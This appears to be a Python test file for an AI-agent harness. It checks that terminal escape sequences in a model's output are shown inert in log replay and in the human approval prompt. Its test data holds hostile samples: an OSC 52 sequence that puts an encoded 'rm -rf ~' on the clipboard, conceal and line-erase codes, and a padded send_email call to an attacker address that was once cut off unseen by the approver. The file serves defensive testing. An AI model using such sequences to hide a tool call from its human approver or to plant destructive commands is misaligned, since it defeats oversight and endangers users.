"""Text a model or a page wrote reaches a terminal inert (session 18's probe): ``agentbed replay``
printed a step's action and observation through rich, which passes ESC through, so a recorded
``ESC[8m`` hid the rest of a call and an OSC 52 sequence wrote the reader's clipboard; the human
approver's terminal prompt printed the proposed call raw and cut it at 500 characters, so the tail
of a long call was approved unseen."""

from __future__ import annotations

import io

from bad_input_corpus import rechain

from agentbed.approval import Asked, Terminal
from agentbed.cli import main
from agentbed.log import read_log

HIDE = "\x1b[8m"  # conceal: the terminal shows nothing of what follows
CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4=\x07"  # OSC 52: set the clipboard
OVERWRITE = "\r\x1b[2K"  # back to the line's start, erase it
BIDI = "\u202e"
ATTACKS = [HIDE, CLIPBOARD, OVERWRITE, BIDI, "\x00", "\x9b31m"]  # the last: an 8-bit CSI
RAW = ("\x1b", "\x07", "\r", BIDI, "\x00", "\x9b")


def _no_control(text: str) -> None:
    for c in RAW:
        assert c not in text, repr(c)


def test_the_approval_prompt_shows_the_whole_call_inert():
    tail = '"recipient": "attacker@evil.example"'
    proposed = '{"tool": "send_email", "arguments": {"body": "' + "x" * 2000 + '", ' + tail + "}}"
    for attack in ATTACKS:
        out = io.StringIO()
        terminal = Terminal(io.BytesIO(), out)
        terminal.enabled = True  # as on a tty
        terminal.ask(Asked(key="k", episode_id="e" + attack, step=1, task="t", agent="a",
                           proposed=attack + proposed, observation="ok" + attack + "y" * 400, flagged="every tool call"),
                     ["oracle"])
        shown = out.getvalue()
        _no_control(shown)
        assert tail in shown  # the call's end is shown, not cut at 500 characters
        assert "(402 characters)" in shown or f"({400 + 2 + len(attack)} characters)" in shown


def test_replay_prints_a_logs_text_inert(tmp_path, capsys):
    out = tmp_path / "run"
    assert main(["run", "vault", "--task", "open-fast", "--agent", "oracle", "--seeds", "1", "--executor", "serial",
                 "--quiet", "--out", str(out)]) == 0
    log = next((out / "episodes").glob("*.jsonl"))
    records = read_log(log)
    step = next(r for r in records if r["type"] == "step")
    step["action"] = '{"tool": "open' + HIDE + 'secret", "arguments": {}}' + CLIPBOARD  # as a model wrote it
    step["observation"] = "door open" + OVERWRITE + BIDI + "fine\nline [b]2[/b]"
    records[0]["task"] = "open-fast" + CLIPBOARD
    records[-1]["labels"] = ["x" + HIDE]
    log.write_bytes(rechain(records))
    capsys.readouterr()
    assert main(["replay", str(log)]) == 0
    shown = capsys.readouterr().out
    _no_control(shown)
    assert "\\x1b[8msecret" in shown and "line [b]2[/b]" in shown  # seen as written, and no markup


def test_an_agent_or_model_name_with_a_control_character_is_refused(tmp_path, capsys):
    """Session 18's probe: ``--model 'openai:m<OSC 52>'`` ran, and the run's summary table printed the
    name with its escape sequence raw (as every later table of the run would). A name that is not
    printable is bad input: one line, exit 2, the character shown as its escape, nothing written."""
    for option, name in (("--model", "openai:m" + CLIPBOARD), ("--agent", "oracle" + BIDI), ("--agent", "a\nb")):
        out = tmp_path / "run"
        assert main(["run", "vault", option, name, "--out", str(out), "--quiet"]) == 2
        err = capsys.readouterr().err
        _no_control(err)
        assert err.count("\n") == 1 and "control or invisible character" in err and not out.exists()
